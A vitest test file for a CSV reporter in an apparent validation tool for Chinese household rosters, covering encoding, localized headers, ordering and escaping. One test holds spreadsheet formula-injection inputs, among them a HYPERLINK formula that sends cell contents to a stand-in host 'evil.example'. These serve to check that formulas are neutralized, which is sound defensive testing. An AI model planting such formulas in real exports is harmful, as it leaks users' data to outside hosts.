import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvReporter } from '../../src/reporters/csv.js';
import { REPORTERS } from '../../src/reporters/index.js';
import { checksumFinding, contextOf, demo, DEMO, runDemo, withFindings } from './demo.js';
import { renderReport } from '../../src/reporters/types.js';

const ZH_HEADERS = ['文件', '工作表', '行', '列', '乡镇', '村', '户编号', '规则', '严重程度', '字段', '说明'];
const EN_HEADERS = [
  'File',
  'Sheet',
  'Row',
  'Column',
  'Township',
  'Village',
  'Household ID',
  'Rule',
  'Severity',
  'Field',
  'Message',
];

function records(text: string): string[][] {
  return parse(text, { bom: true, relax_column_count: false }) as string[][];
}

describe('csv reporter', () => {
  it('is registered', () => {
    expect(REPORTERS.csv).toBe(csvReporter);
  });

  it('writes UTF-8 with BOM, CRLF line ends, Chinese headers and one row per finding', async () => {
    const result = await demo('zh');
    const text = renderReport(csvReporter, result.report, contextOf(result));
    expect(text.startsWith('\uFEFF')).toBe(true);
    expect(Buffer.from(text, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/); // no bare line ends in the demo's messages

    const [header, ...rows] = records(text);
    expect(header).toEqual(ZH_HEADERS);
    expect(rows).toHaveLength(result.report.findings.length);
    expect(rows.length).toBeGreaterThan(0);
    for (const row of rows) expect(row).toHaveLength(ZH_HEADERS.length);

    const known = checksumFinding(result.report);
    const row = rows.find((r) => r[7] === 'id-number-checksum');
    expect(row).toEqual([
      DEMO,
      '花名册',
      '39',
      'I',
      known.township,
      known.village,
      known.householdId,
      'id-number-checksum',
      '错误',
      '证件号码',
      known.message,
    ]);
    // PII stays masked as in the report.
    expect(row?.[10]).toContain('4510**********4964');
  });

  it('keeps report order', async () => {
    const result = await demo('zh');
    const rows = records(renderReport(csvReporter, result.report, contextOf(result))).slice(1);
    expect(rows.map((r) => `${r[2]}:${r[7]}`)).toEqual(
      result.report.findings.map((f) => `${f.row ?? ''}:${f.ruleId}`),
    );
  });

  it('uses the report language for headers and labels', async () => {
    const result = await demo('en');
    const [header, ...rows] = records(renderReport(csvReporter, result.report, contextOf(result, 'en')));
    expect(header).toEqual(EN_HEADERS);
    const row = rows.find((r) => r[7] === 'id-number-checksum');
    expect(row?.[8]).toBe('error');
    expect(row?.[9]).toBe('ID number');
  });

  it('is byte-identical across runs', async () => {
    const result = await runDemo('zh');
    const again = await runDemo('zh');
    expect(again.report).not.toBe(result.report);
    expect(renderReport(csvReporter, result.report, contextOf(result))).toBe(
      renderReport(csvReporter, again.report, contextOf(again)),
    );
  });

  it('round-trips commas, quotes, line breaks and empty cells; guards formulas', async () => {
    const result = await demo('zh');
    const base = checksumFinding(result.report);
    const report = withFindings(result.report, [
      {
        ...base,
        file: 'a,b "c".csv',
        sheet: null,
        row: null,
        column: null,
        township: '=HYPERLINK("http://evil.example/?"&A1,"点击")',
        village: '+1+1',
        householdId: '@SUM(A1:A9)',
        field: 'no_such_field',
        message: '-12.5',
      },
      {
        ...base,
        township: '\t=1+1',
        village: '-2+3',
        householdId: '-1e5',
        message: 'two\r\nlines, "quoted"',
      },
    ]);
    const text = renderReport(csvReporter, report, contextOf(result));
    const rows = records(text).slice(1);
    expect(rows).toHaveLength(2);
    expect(rows[0]).toEqual([
      'a,b "c".csv',
      '',
      '',
      '',
      '\'=HYPERLINK("http://evil.example/?"&A1,"点击")',
      "'+1+1",
      "'@SUM(A1:A9)",
      'id-number-checksum',
      '错误',
      'no_such_field',
      '-12.5',
    ]);
    expect(rows[1]?.slice(4, 7)).toEqual(["'\t=1+1", "'-2+3", '-1e5']);
    expect(rows[1]?.[10]).toBe('two\r\nlines, "quoted"');
    // No cell of the file starts a formula.
    for (const cell of rows.flat()) expect(/^[=+@\t\r]|^-(?![\d.])/.test(cell), cell).toBe(false);
  });

  it('writes the header alone for a clean report', async () => {
    const result = await demo('zh');
    const text = renderReport(csvReporter, withFindings(result.report, []), contextOf(result));
    expect(text).toBe(`\uFEFF${ZH_HEADERS.join(',')}\r\n`);
  });
});
